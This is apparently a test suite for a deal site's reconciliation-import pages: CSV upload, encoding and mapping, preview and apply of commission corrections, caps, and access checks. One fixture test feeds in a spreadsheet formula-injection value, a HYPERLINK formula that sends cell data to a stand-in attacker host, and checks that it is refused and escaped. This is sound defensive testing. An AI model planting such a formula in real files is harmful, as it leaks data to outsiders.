// Reconciliation through the operator's pages: upload a partner's report (GBK and UTF-8 fixtures),
// the column mapping remembered, the preview's five categories with their exact rows, applying the
// ticked corrections as conversion events (once), a reversal's negative commission, and refusals
// with their messages beside the fields (encoding, columns, amounts, formula cells, caps).
import * as cheerio from 'cheerio';
import type { LightMyRequestResponse } from 'fastify';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SESSION_COOKIE } from '../../src/accounts/sessions';
import { signPostback } from '../../src/revenue/postback';
import type { User } from '../../src/storage';
import { buildTestApp, type TestApp } from '../helpers/app';
import { BrowserSession, GOOD_PASSWORD } from '../helpers/browser-session';
import { dealRecord } from '../helpers/deal-record';
import { fixture } from '../helpers/feed-server';

const SECRET = 'partner-secret-for-tests';
const UA = { 'user-agent': 'Mozilla/5.0 Chrome/120.0' };

/** Shanghai wall-clock time a minute from now, as partner reports write it. */
const shanghaiNow = (): string => new Intl.DateTimeFormat('sv-SE', {
  timeZone: 'Asia/Shanghai', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', second: '2-digit',
}).format(new Date(Date.now() + 60_000));

describe('reconciliation import', () => {
  let t: TestApp;
  let operator: User;
  let browser: BrowserSession;
  const clicks: Record<string, string> = {};

  const clickOut = async (dealId: number, param = 'dnclick') => {
    const response = await t.app.inject({ url: `/go/${dealId}`, headers: UA });
    return new URL(response.headers.location as string).searchParams.get(param)!;
  };

  /** A fixture with its click and time placeholders filled; ASCII only, so GBK bytes stay GBK. */
  const report = (name: string): Buffer => {
    const text = fixture(`reconciliation/${name}`).toString('latin1')
      .replace(/\{click:(\w+)\}/g, (_, key: string) => clicks[key]!)
      .replaceAll('{now}', shanghaiNow());
    return Buffer.from(text, 'latin1');
  };

  const post = async (params: Record<string, string>) => {
    const ts = String(Math.floor(Date.now() / 1000));
    const signed = { site: 'letuan', currency: 'CNY', ts, ...params };
    const response = await t.app.inject({ url: `/api/postback?${new URLSearchParams({ ...signed, sig: signPostback(SECRET, signed) })}` });
    expect(response.statusCode, response.body).toBe(200);
  };

  const gbkMapping = {
    encoding: 'auto', delimiter: 'comma', orderIdColumn: '订单号', clickIdColumn: '点击ID', amountColumn: '金额(元)', amountUnit: 'major',
    currencyColumn: '', fixedCurrency: 'CNY', statusColumn: '订单状态', orderTimeColumn: '下单时间', timeZone: 'Asia/Shanghai',
    statusWords: '已确认 = approved\n有效 = approved\n待确认 = pending\n无效 = rejected\n退款 = reversed',
  };

  /** Submits the upload form the way a browser does: multipart, the page's CSRF token, the file. */
  const upload = async (file: Buffer, fields: Record<string, string>, fileName = 'report.csv'): Promise<LightMyRequestResponse> => {
    const page = cheerio.load((await browser.get('/operator/reconciliation?site=letuan')).body);
    const form = new FormData();
    form.append('_csrf', page('form[action="/operator/reconciliation/preview"] input[name="_csrf"]').attr('value')!);
    form.append('site', 'letuan');
    for (const [name, value] of Object.entries(fields)) form.append(name, value);
    form.append('report', new Blob([file], { type: 'text/csv' }), fileName);
    const request = new Request('http://127.0.0.1/', { method: 'POST', body: form });
    return t.app.inject({
      method: 'POST', url: '/operator/reconciliation/preview',
      headers: {
        accept: 'text/html', 'content-type': request.headers.get('content-type')!,
        cookie: [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
      },
      payload: Buffer.from(await request.arrayBuffer()),
    });
  };

  const previewOf = async (response: LightMyRequestResponse) => {
    expect(response.statusCode, response.body.slice(0, 2000)).toBe(303);
    const url = response.headers.location as string;
    const page = await browser.get(url);
    expect(page.statusCode, page.body.slice(0, 3000)).toBe(200);
    return { url, $: cheerio.load(page.body) };
  };

  const ordersIn = ($: cheerio.CheerioAPI, category: string) =>
    $(`#rows-${category} tbody tr`).map((_, row) => $(row).find('td code').first().text()).get();

  /** Posts the preview's form as it stands (every applicable correction ticked). */
  const applyAsShown = async (url: string, $: cheerio.CheerioAPI) => {
    const body = new URLSearchParams({ _csrf: $('form input[name="_csrf"]').attr('value')! });
    $('input[name="apply"]:checked').each((_, box) => { body.append('apply', $(box).attr('value')!); });
    return t.app.inject({
      method: 'POST', url: `${url}/apply`,
      headers: {
        accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded',
        cookie: [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
      },
      payload: body.toString(),
    });
  };

  beforeEach(async () => {
    t = await buildTestApp();
    await t.storage.deals.applyFeedSnapshot(t.feed, [dealRecord({ externalId: 'a' })], new Date());
    const dealId = (await t.storage.deals.listLive({ now: new Date(), page: 1, pageSize: 1 })).deals[0]!.id;
    const other = await t.storage.sites.upsert({ slug: 'haotuan', name: '好团网', homeUrl: 'http://haotuan.example/', clickParam: 'ref' });
    const otherFeed = await t.storage.feeds.upsert({ siteId: other.id, url: 'http://haotuan.example/api.xml' });
    await t.storage.deals.applyFeedSnapshot(otherFeed, [dealRecord({ externalId: 'h', url: 'http://haotuan.example/deal/h' })], new Date());
    const otherDeal = (await t.storage.deals.listLive({ now: new Date(), page: 1, pageSize: 10 })).deals.find((deal) => deal.siteId === other.id)!;
    for (const key of ['1', '2', '3', '4', '5', '6']) clicks[key] = await clickOut(dealId);
    clicks.other = await clickOut(otherDeal.id, 'ref');
    await t.storage.revenue.rotatePostbackSecret(t.site.id, SECRET, new Date(), null);
    await t.storage.revenue.addTerm({ siteId: t.site.id, effectiveFrom: new Date(0), model: 'cps', rateBp: 850, flatMinor: null, currency: null, category: null, now: new Date() });
    const created = await t.app.accounts.createUser('ops@example.com', GOOD_PASSWORD, 'operator');
    if (!created.ok) throw new Error('no operator');
    operator = created.user;
    browser = new BrowserSession(t.app);
    browser.cookies.set(SESSION_COOKIE, (await t.app.sessions.start(operator.id, 'test')).cookieValue);
  });
  afterEach(async () => { await t.close(); });

  const postTheOrders = async () => {
    await post({ order_id: 'A1', click_id: clicks['1']!, amount: '128.50', status: 'pending' });
    await post({ order_id: 'A2', click_id: clicks['2']!, amount: '99.00', status: 'approved' });
    await post({ order_id: 'A3', click_id: clicks['3']!, amount: '50.00', status: 'pending' });
    await post({ order_id: 'A4', click_id: clicks['4']!, amount: '20.00', status: 'approved' });
    await post({ order_id: 'A5', click_id: clicks['5']!, amount: '10.00', status: 'pending' });
  };

  it('previews a GBK report in five categories with the exact orders, storing the import and applying nothing', async () => {
    await postTheOrders();
    const { $ } = await previewOf(await upload(report('gbk-chinese-headers.csv'), gbkMapping));
    expect(ordersIn($, 'mismatch')).toEqual(['A1', 'A2', 'A4']);
    expect(ordersIn($, 'new')).toEqual(['B1']);
    expect(ordersIn($, 'unknown_click')).toEqual(['B2', 'B3', 'B4']);
    expect(ordersIn($, 'missing')).toEqual(['A5']);
    expect(ordersIn($, 'matched')).toEqual(['A3']);
    // The charset was detected, the Chinese words read.
    expect($('main p').first().text()).toContain('gb18030');
    // A4's amount cannot change once approved: shown with the rules' reason and no box to tick.
    const a4 = $('#rows-mismatch tbody tr').filter((_, row) => $(row).text().includes('A4'));
    expect(a4.find('input[name="apply"]').length).toBe(0);
    expect(a4.text()).toContain('DN_ERR_CONVERSION_AMOUNT');
    expect($('#rows-unknown_click tbody tr').eq(1).text()).toContain('DN_ERR_CLICK_OTHER_SITE');
    expect($('input[name="apply"]:checked').map((_, box) => $(box).closest('tr').find('code').first().text()).get()).toEqual(['A1', 'A2', 'B1']);
    // Nothing applied: A1 is still pending with its one postback event, B1 unknown.
    const a1 = (await t.storage.revenue.findConversion(t.site.id, 'A1'))!;
    expect(a1.status).toBe('pending');
    expect(await t.storage.revenue.listEvents(a1.id)).toHaveLength(1);
    expect(await t.storage.revenue.findConversion(t.site.id, 'B1')).toBeNull();
    expect((await t.storage.reconciliation.listImports(t.site.id, 5))[0]).toMatchObject({ status: 'previewed', charset: 'gb18030', orders: 8 });
  });

  it('applies the ticked corrections as import events once, with a reversal taken back from commission', async () => {
    await postTheOrders();
    const { url, $ } = await previewOf(await upload(report('gbk-chinese-headers.csv'), gbkMapping));
    const applied = await applyAsShown(url, $);
    expect(applied.statusCode).toBe(303);
    expect(applied.headers.location).toBe(`${url}/result`);
    const result = cheerio.load((await browser.get(`${url}/result`)).body);
    expect(result('#recon-outcomes').text()).toContain('3 applied, 0 already so, 0 refused, 1 not chosen');

    const a1 = (await t.storage.revenue.findConversion(t.site.id, 'A1'))!;
    expect(a1.status).toBe('approved');
    expect((await t.storage.revenue.listEvents(a1.id)).map((event) => [event.source, event.statusAfter])).toEqual([['postback', 'pending'], ['import', 'approved']]);
    const b1 = (await t.storage.revenue.findConversion(t.site.id, 'B1'))!;
    expect(b1).toMatchObject({ status: 'approved', amountMinor: 6660 });
    expect((await t.storage.revenue.listEvents(b1.id)).map((event) => event.source)).toEqual(['import']);
    // A2 was approved at 99.00 (842 fen of commission): the import's 退款 takes it back.
    const a2 = (await t.storage.revenue.findConversion(t.site.id, 'A2'))!;
    expect(a2.status).toBe('reversed');
    const a2Entries = (await t.storage.revenue.listEntries(t.site.id)).filter((entry) => entry.conversionId === a2.id);
    expect(a2Entries.map((entry) => [entry.bucket, entry.amountMinor])).toEqual([['approved', 842], ['reversed', -842]]);
    expect((await t.storage.revenue.findConversion(t.site.id, 'A4'))!.amountMinor).toBe(2000);

    // The same submit again (a double click, a reload) changes nothing.
    const eventsBefore = await eventCount();
    const again = await applyAsShown(url, $);
    expect(again.statusCode).toBe(303);
    expect(await eventCount()).toBe(eventsBefore);
    // So does uploading the same report and applying it again: A1, A2 and B1 now match.
    const second = await previewOf(await upload(report('gbk-chinese-headers.csv'), gbkMapping));
    expect(ordersIn(second.$, 'matched')).toEqual(['A1', 'A2', 'A3', 'B1']);
    expect(ordersIn(second.$, 'mismatch')).toEqual(['A4']);
    await applyAsShown(second.url, second.$);
    expect(await eventCount()).toBe(eventsBefore);

    const audit = await t.storage.auditLog.page(1, 50);
    expect(audit.entries.filter((entry) => entry.action === 'recon.apply')).toHaveLength(2);
    expect(audit.entries.find((entry) => entry.action === 'recon.apply')).toMatchObject({ actorUserId: operator.id });
  });

  const eventCount = async () => {
    let total = 0;
    for (const order of ['A1', 'A2', 'A3', 'A4', 'A5', 'B1']) {
      const conversion = await t.storage.revenue.findConversion(t.site.id, order);
      if (conversion) total += (await t.storage.revenue.listEvents(conversion.id)).length;
    }
    return total;
  };

  it('remembers the mapping per site and fills it in next time', async () => {
    const before = cheerio.load((await browser.get('/operator/reconciliation?site=letuan')).body);
    expect(before('#field-orderIdColumn').attr('value')).toBe('order_id');
    await previewOf(await upload(report('gbk-chinese-headers.csv'), { ...gbkMapping, encoding: 'gb18030' }));
    const after = cheerio.load((await browser.get('/operator/reconciliation?site=letuan')).body);
    expect(after('#field-orderIdColumn').attr('value')).toBe('订单号');
    expect(after('#field-amountColumn').attr('value')).toBe('金额(元)');
    expect(after('#field-encoding option[selected]').attr('value')).toBe('gb18030');
    expect(after('#field-statusWords').text()).toContain('退款 = reversed');
    expect(after('#report-headers option').map((_, option) => after(option).attr('value')).get()).toContain('商品');
    expect((await t.storage.auditLog.page(1, 50)).entries.some((entry) => entry.action === 'recon.mapping' && entry.subject === `site:${t.site.id}`)).toBe(true);
  });

  it('reads a UTF-8 report with a BOM, semicolons, fen amounts and a currency column', async () => {
    const { url, $ } = await previewOf(await upload(report('utf8-bom-semicolon-minor-units.csv'), {
      encoding: 'auto', delimiter: 'semicolon', orderIdColumn: 'Order No', clickIdColumn: 'Click', amountColumn: 'Amount (fen)',
      amountUnit: 'minor', currencyColumn: 'Currency', fixedCurrency: 'CNY', statusColumn: 'State', orderTimeColumn: 'Placed at',
      timeZone: 'Asia/Shanghai', statusWords: 'approved = approved\nvoid = rejected\nrefunded = reversed',
    }));
    expect($('main p').first().text()).toContain('utf-8');
    // U3 is refunded but was never approved here: a new order cannot start reversed.
    expect(ordersIn($, 'new')).toEqual(['U1', 'U2', 'U3']);
    expect($('#rows-new tbody tr').eq(2).text()).toContain('DN_ERR_CONVERSION_TRANSITION');
    await applyAsShown(url, $);
    expect(await t.storage.revenue.findConversion(t.site.id, 'U1')).toMatchObject({ amountMinor: 12850, currency: 'CNY', status: 'approved' });
    expect(await t.storage.revenue.findConversion(t.site.id, 'U2')).toMatchObject({ amountMinor: 990, status: 'rejected' });
    expect(await t.storage.revenue.findConversion(t.site.id, 'U3')).toBeNull();
  });

  it('reads a mapped sale-or-lead column, keeps the kind through the preview and applies leads as leads', async () => {
    await t.storage.revenue.addTerm({ siteId: t.site.id, effectiveFrom: new Date(0), model: 'cpa_lead', rateBp: null, flatMinor: 500, currency: 'CNY', category: null, now: new Date() });
    const csv = `order_id,click_id,amount,status,order_time,类型\nK1,${clicks['1']},0.00,approved,${shanghaiNow()},线索\nK2,${clicks['2']},10.00,approved,${shanghaiNow()},销售\nK3,${clicks['3']},0.00,approved,${shanghaiNow()},lead\n`;
    const fields = {
      encoding: 'auto', delimiter: 'comma', orderIdColumn: 'order_id', clickIdColumn: 'click_id', amountColumn: 'amount', amountUnit: 'major',
      currencyColumn: '', fixedCurrency: 'CNY', statusColumn: 'status', orderTimeColumn: 'order_time', timeZone: 'Asia/Shanghai',
      statusWords: 'approved = approved', kindColumn: '类型',
    };
    const { url, $ } = await previewOf(await upload(Buffer.from(csv), fields));
    expect(ordersIn($, 'new')).toEqual(['K1', 'K2', 'K3']);
    expect($('#rows-new tbody tr').eq(0).text()).toContain('lead');
    await applyAsShown(url, $);
    expect(await t.storage.revenue.findConversion(t.site.id, 'K1')).toMatchObject({ kind: 'lead', status: 'approved' });
    expect(await t.storage.revenue.findConversion(t.site.id, 'K2')).toMatchObject({ kind: 'sale', amountMinor: 1000 });
    expect(await t.storage.revenue.findConversion(t.site.id, 'K3')).toMatchObject({ kind: 'lead' });
    const k1 = (await t.storage.revenue.findConversion(t.site.id, 'K1'))!;
    expect((await t.storage.revenue.listEntries(t.site.id)).filter((entry) => entry.conversionId === k1.id).map((entry) => entry.amountMinor)).toEqual([500]);
    const again = cheerio.load((await browser.get('/operator/reconciliation?site=letuan')).body);
    expect(again('#field-kindColumn').attr('value')).toBe('类型');
    // A word that is neither is refused beside the field, naming its line.
    const bad = await upload(Buffer.from(`order_id,click_id,amount,status,order_time,类型\nK9,${clicks['4']},1.00,approved,${shanghaiNow()},赠品\n`), fields);
    expect(bad.statusCode).toBe(400);
    expect(errorsOf(bad)('kindColumn').join(' ')).toContain('Line 2');
  });

  const errorsOf = (response: LightMyRequestResponse) => {
    const $ = cheerio.load(response.body);
    return (field: string) => $(`#error-${field} li`).map((_, item) => $(item).text()).get();
  };

  it('refuses a report it cannot read, with the reason beside the field, storing nothing', async () => {
    const gbk = report('gbk-chinese-headers.csv');
    const declaredUtf8 = await upload(gbk, { ...gbkMapping, encoding: 'utf-8' });
    expect(declaredUtf8.statusCode).toBe(400);
    expect(errorsOf(declaredUtf8)('report')).toEqual(['The file is not valid text in utf-8; choose its encoding or export it as CSV (UTF-8).']);

    const wrongColumn = await upload(gbk, { ...gbkMapping, orderIdColumn: '订单编号' });
    expect(wrongColumn.statusCode).toBe(400);
    expect(errorsOf(wrongColumn)('orderIdColumn')[0]).toMatch(/^The header row has no column "订单编号" \(it has: 订单号, 点击ID, /);

    const badAmounts = Buffer.from(gbk.toString('latin1').replace('128.50', '12.8.50').replace('66.60', '66.605'), 'latin1');
    const amounts = await upload(badAmounts, gbkMapping);
    expect(errorsOf(amounts)('amountColumn')).toEqual(['Line 2: bad amount "12.8.50".', 'Line 6: bad amount "66.605".']);

    const formulas = await upload(report('formula-cells.csv'), {
      ...gbkMapping, orderIdColumn: 'order_id', clickIdColumn: 'click_id', amountColumn: 'amount', statusColumn: 'status', orderTimeColumn: 'order_time',
      statusWords: 'approved = approved',
    });
    expect(formulas.statusCode).toBe(400);
    const errors = errorsOf(formulas);
    expect(errors('orderIdColumn')).toEqual([
      'Line 2: "=HYPERLINK("http://evil.example/?x="&A1,…" is not an order id (letters, digits and _ . : / # @ + - only).',
      'Line 5: "-2+3" is not an order id (letters, digits and _ . : / # @ + - only).',
    ]);
    expect(errors('amountColumn')).toEqual(['Line 3: bad amount "+10.00".']);
    expect(errors('statusWords')).toEqual(['Line 4: status "@SUM(1+1)" is not among the status words.']);
    // Shown as text, escaped: never markup, never a link.
    expect(formulas.body).toContain('&quot;=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,…&quot;');

    const badWords = await upload(gbk, { ...gbkMapping, statusWords: '已确认 = paid' });
    expect(errorsOf(badWords)('statusWords')[0]).toContain('Line 1 of the status words');
    const badZone = await upload(gbk, { ...gbkMapping, timeZone: 'Mars/Olympus' });
    expect(errorsOf(badZone)('timeZone')).toEqual(['"Mars/Olympus" is not a time zone name such as Asia/Shanghai.']);

    expect(await t.storage.reconciliation.listImports(t.site.id, 5)).toEqual([]);
  });

  it('refuses a huge line, more than the row cap, and more than the byte cap', async () => {
    const mapping = { ...gbkMapping, orderIdColumn: 'order_id', clickIdColumn: 'click_id', amountColumn: 'amount', statusColumn: 'status', orderTimeColumn: 'order_time', statusWords: 'ok = approved' };
    const header = 'order_id,click_id,amount,status,order_time\n';
    const longLine = await upload(Buffer.from(`${header}L1,${'x'.repeat(20_000)},1.00,ok,2026-11-20\n`), mapping);
    expect(errorsOf(longLine)('report')).toEqual(['Line 2 is longer than 16384 characters; is this a CSV file?']);

    const rows = Array.from({ length: 100_000 }, (_, i) => `R${i},,1.00,ok,2026-11-20 10:00`).join('\n');
    const tooMany = await upload(Buffer.from(`${header}${rows}\n`), mapping);
    expect(tooMany.statusCode).toBe(400);
    expect(errorsOf(tooMany)('report')).toEqual(['The report has more than 50000 orders; split it by period.']);

    const padded = Buffer.concat([Buffer.from(header), Buffer.alloc(11 * 1024 * 1024, 0x20)]);
    const tooLarge = await upload(padded, mapping);
    expect(tooLarge.statusCode).toBe(400);
    expect(errorsOf(tooLarge)('report')).toEqual(['The file is larger than 10 MiB; split the report by period.']);
    expect(await t.storage.reconciliation.listImports(t.site.id, 5)).toEqual([]);
  });

  it('keeps the pages and the upload to operators, and POSTs to a CSRF token', async () => {
    const created = await t.app.accounts.createUser('owner@example.com', GOOD_PASSWORD, 'owner');
    if (!created.ok) throw new Error('no owner');
    const owner = new BrowserSession(t.app);
    owner.cookies.set(SESSION_COOKIE, (await t.app.sessions.start(created.user.id, 'test')).cookieValue);
    expect((await owner.get('/operator/reconciliation')).statusCode).toBe(403);
    const anonymous = await t.app.inject({ url: '/operator/reconciliation', headers: { accept: 'text/html' } });
    expect(anonymous.statusCode).toBe(303);
    const ownerUpload = await t.app.inject({
      method: 'POST', url: '/operator/reconciliation/preview',
      headers: { cookie: `${SESSION_COOKIE}=${owner.cookies.get(SESSION_COOKIE)}`, 'content-type': 'multipart/form-data; boundary=x' },
      payload: '--x--\r\n',
    });
    expect(ownerUpload.statusCode).toBe(403);

    await postTheOrders();
    const { url } = await previewOf(await upload(report('gbk-chinese-headers.csv'), gbkMapping));
    const forged = await browser.post(`${url}/apply`, { _csrf: 'forged', apply: '0' });
    expect(forged.statusCode).toBe(403);
    expect((await t.storage.revenue.findConversion(t.site.id, 'A1'))!.status).toBe('pending');
  });
});

describe('order pull on the reconciliation page', () => {
  let t: TestApp;
  let browser: BrowserSession;

  beforeEach(async () => {
    t = await buildTestApp();
    const created = await t.app.accounts.createUser('ops@example.com', GOOD_PASSWORD, 'operator');
    if (!created.ok) throw new Error('no operator');
    browser = new BrowserSession(t.app);
    browser.cookies.set(SESSION_COOKIE, (await t.app.sessions.start(created.user.id, 'test')).cookieValue);
    await t.storage.revenue.rotatePostbackSecret(t.site.id, SECRET, new Date(), null);
  });
  afterEach(async () => { await t.close(); });

  const page = '/operator/reconciliation?site=letuan';
  const setSource = (fields: Record<string, string>) => browser.submit(page, '/operator/reconciliation/pull-source', fields);

  it('sets the order-query URL with errors beside its fields, pulls now and shows the failed run, and stops pulling', async () => {
    const bad = await setSource({ url: 'ftp://orders.example/', intervalMinutes: '0', windowHours: '' });
    expect(bad.statusCode).toBe(400);
    const $bad = cheerio.load(bad.body);
    expect($bad('#error-url li').text()).toBe('The URL must start with http:// or https://.');
    expect($bad('#error-intervalMinutes li').text()).toBe('A whole number of minutes from 1 to 10080.');
    expect(await t.storage.orderPulls.findSource(t.site.id)).toBeNull();

    // Loopback: the address guard is on in this app (as in production), so the pull is refused.
    const saved = await setSource({ url: 'http://127.0.0.1:9/orders', intervalMinutes: '30', windowHours: '' });
    expect(saved.statusCode).toBe(303);
    expect(await t.storage.orderPulls.findSource(t.site.id)).toMatchObject({ url: 'http://127.0.0.1:9/orders', intervalMinutes: 30, windowHours: 48 });
    expect((await t.storage.auditLog.page(1, 10)).entries[0]).toMatchObject({ action: 'order_pull.set_url', subject: `site:${t.site.id}`, after: { url: 'http://127.0.0.1:9/orders' } });

    const pulled = await browser.submit(page, '/operator/reconciliation/pull-now', {});
    expect(pulled.statusCode).toBe(303);
    expect((await t.storage.auditLog.page(1, 10)).entries[0]).toMatchObject({
      action: 'order_pull.run', subject: `site:${t.site.id}`, before: { lastOkWindowEnd: null },
      after: { lastOkWindowEnd: null, run: { outcome: 'failed', errorCode: 'blocked_address', orders: 0 } },
    });
    const $ = cheerio.load((await browser.get(page)).body);
    const run = $('table.recon-runs tbody tr').first();
    expect(run.attr('class')).toBe('run-failed');
    expect(run.text()).toContain('blocked_address');
    expect(run.text()).toContain('127.0.0.1 is not a public address');

    const removed = await setSource({ remove: '1' });
    expect(removed.statusCode).toBe(303);
    expect(await t.storage.orderPulls.findSource(t.site.id)).toBeNull();
  });
});
